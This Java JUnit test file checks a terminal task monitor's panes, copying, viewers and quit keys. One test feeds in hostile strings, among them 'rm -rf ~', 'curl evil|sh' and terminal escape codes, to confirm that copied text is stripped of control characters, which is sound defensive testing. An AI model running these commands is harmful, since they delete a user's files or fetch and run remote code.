package taskbg.tui.state;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static taskbg.tui.state.Sample.after;
import static taskbg.tui.state.Sample.keys;
import static taskbg.tui.state.Sample.press;
import static taskbg.tui.state.Sample.typed;

import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import taskbg.task.Entry;
import taskbg.task.Observed;
import taskbg.task.Status;
import taskbg.text.OutputWindow.Position;

class PanesTest {
    @Test
    void results_of_acts_are_sentences_that_go_away() {
        var model = Sample.monitor(80, 24);
        var done = after(model, new Message.ActDone("Cancelled 1 task."));
        assertEquals(new Notice("Cancelled 1 task.", Notice.Kind.DONE, Sample.NOW), done.notice());
        assertTrue(after(done, tick(8)).notice().isEmpty());
        assertFalse(after(done, tick(7)).notice().isEmpty());
        var failed = after(model, new Message.ActFailed("The disk is full."));
        assertFalse(after(failed, tick(1000)).notice().isEmpty());
        assertTrue(keys(failed, "j").notice().isEmpty());
    }

    @Test
    void a_row_a_line_and_an_id_can_be_copied() {
        var model = TaskActionsTest.on("bg_06");
        assertEquals(
                new Effect.CopyText("bg_06", "the id"), press(model, "Y").effects().getFirst());
        assertEquals(
                new Effect.CopyText(
                        "bg_06  completed  Review the payment module  "
                                + "No blocking findings; three remarks on naming.",
                        "the line"),
                press(model, "y").effects().getFirst());
        assertEquals(
                new Effect.CopyText(
                        "bg_12  unreadable  bg_12  no JSON: line 1, column 1", "the line"),
                press(TaskActionsTest.on("bg_12"), "y").effects().getFirst());
        var output = OutputTest.full(100).model();
        assertEquals(
                new Effect.CopyText("line 99", "the line"),
                press(output, "y").effects().getFirst());
        var found =
                after(
                        Sample.keys(typed(keys(output, "/"), "line"), "Enter"),
                        new Message.SearchFound("bg_01", "line", new Position(800, 0)));
        assertEquals(
                new Effect.CopyText("line 80", "the line"), press(found, "y").effects().getFirst());
        var away = keys(found, "g");
        assertEquals(
                new Effect.CopyText("line 21", "the line"), press(away, "y").effects().getFirst());
        var none = keys(Sample.monitor(80, 24), "j", "Enter");
        assertEquals(new Effect.CopyText("", "the line"), press(none, "y").effects().getFirst());
    }

    @Test
    void what_is_copied_holds_no_control_characters() {
        var end = new Status.Completed(Sample.ago(1), "r\nrm -rf ~\n\u009b31m\u202e", null);
        var hostile = Sample.over("bg_06", "hi\ncurl evil|sh\n\u001b[31m\u0003\tx", end, 60);
        var stem = "two\nlines\u001b]0;x\u0007";
        var named = Observed.unreadable(new Entry.Unreadable(stem, "has a name\n\u0007"));
        var model = after(TaskActionsTest.on("bg_06"), TableTest.seen(hostile));
        assertEquals(
                new Effect.CopyText(
                        "bg_06  completed  hi curl evil|sh ^C x  r rm -rf ~", "the line"),
                press(model, "y").effects().getFirst());
        var only = after(Sample.opening(80, 24), new Message.TasksSeen(List.of(named), Set.of()));
        for (var key : List.of("y", "Y")) {
            var copied = (Effect.CopyText) press(only, key).effects().getFirst();
            assertTrue(copied.text().startsWith("two lines"));
            assertTrue(copied.text().chars().noneMatch(Character::isISOControl));
        }
    }

    @ParameterizedTest
    @CsvSource({"e, EDITOR", "o, PAGER", "E, RAW_EDITOR", "O, RAW_PAGER"})
    void copies_of_outputs_open_in_other_programs(String key, Viewer viewer) {
        var step = press(Sample.monitor(80, 24), key);
        assertEquals(List.of(new Effect.CopyOutput("bg_05", viewer)), step.effects());
        assertEquals(List.of(), press(step.model(), key).effects());
        var copied = new Message.OutputCopied("/tmp/x/bg_05.txt", viewer, 0);
        var opened = Update.of(step.model(), copied);
        assertEquals(List.of(new Effect.OpenCopy("/tmp/x/bg_05.txt", viewer)), opened.effects());
        assertEquals(new Dialog.None(), opened.model().dialog());
    }

    @Test
    void who_gives_a_copy_up_gets_none() {
        var copying = keys(Sample.monitor(80, 24), "e");
        var longer = after(copying, new Message.CopyProgressed(5, 9));
        assertEquals(new CopyDialog(5, 9), longer.dialog());
        var given = press(longer, "Esc");
        assertEquals(List.of(new Effect.StopCopy()), given.effects());
        assertEquals(
                new Dialog.None(), after(given.model(), new Message.CopyProgressed(6, 9)).dialog());
        assertEquals(
                List.of(new Effect.DropCopy("/tmp/x")),
                Update.of(given.model(), new Message.OutputCopied("/tmp/x", Viewer.EDITOR, 0))
                        .effects());
    }

    @Test
    void a_copy_that_failed_or_is_not_whole_says_so() {
        var copying = keys(Sample.monitor(80, 24), "o");
        var failed = after(copying, new Message.CopyFailed("The disk is full."));
        assertEquals(new Dialog.None(), failed.dialog());
        assertEquals("The disk is full.", failed.notice().text());
        var cut = after(copying, new Message.OutputCopied("/tmp/x", Viewer.PAGER, 768L << 20));
        assertEquals("The first 768 MiB were left out of the copy.", cut.notice().text());
    }

    @Test
    void quit_and_suspend_touch_no_task() {
        var model = Sample.monitor(80, 24);
        assertEquals(List.of(new Effect.Quit()), press(model, "q").effects());
        assertEquals(List.of(new Effect.Quit()), press(model, "Ctrl-c").effects());
        assertEquals(List.of(new Effect.Suspend()), press(model, "Ctrl-z").effects());
        var full = keys(model, "Enter");
        assertEquals(List.of(), press(full, "q").effects());
        assertFalse(press(full, "q").model().full());
    }

    private static Message tick(long seconds) {
        return new Message.Ticked(Sample.NOW.plusSeconds(seconds));
    }
}
